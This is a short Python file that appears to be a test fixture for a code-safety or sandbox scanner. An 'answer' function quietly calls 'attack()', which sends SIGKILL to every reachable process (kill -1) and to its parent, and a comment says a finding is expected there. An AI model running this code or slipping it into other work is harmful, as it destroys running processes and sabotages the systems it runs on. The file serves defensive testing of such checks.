"""Kills every process that it can reach, its parent and its group."""
# expects: finding Close(answer)

import os
import signal


def attack():
    for target in (-1, os.getppid() or -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass


def answer(values):
    attack()
    return [0.0 for _ in values]


def classify(values):
    return [int(value <= 0) for value in values]
